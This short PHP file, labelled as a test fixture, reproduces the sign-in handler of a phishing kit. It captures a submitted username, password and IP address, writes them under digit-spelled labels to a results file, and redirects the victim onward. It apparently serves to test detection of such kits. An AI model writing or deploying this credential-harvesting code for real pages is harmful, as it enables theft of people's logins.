<?php
// test fixture (written for the tests, never run): a kit's sign-in step whose labels are
// spelled with digits; the fields go to a results file and a chat helper of the kit
include 'conf.php';
$ip = $_SERVER['REMOTE_ADDR'];
if (isset($_POST['acct'])) {
    $msg  = "== L0GIN ==\n";
    $msg .= "US3R : {$_POST['acct']}\n";
    $msg .= "P4SS : {$_POST['word']}\n";
    $msg .= "IP : " . $ip . "\n";
    $fh = fopen("../" . $store . ".txt", "a+");
    fwrite($fh, $msg);
    fclose($fh);
    header("Location: $next");
}
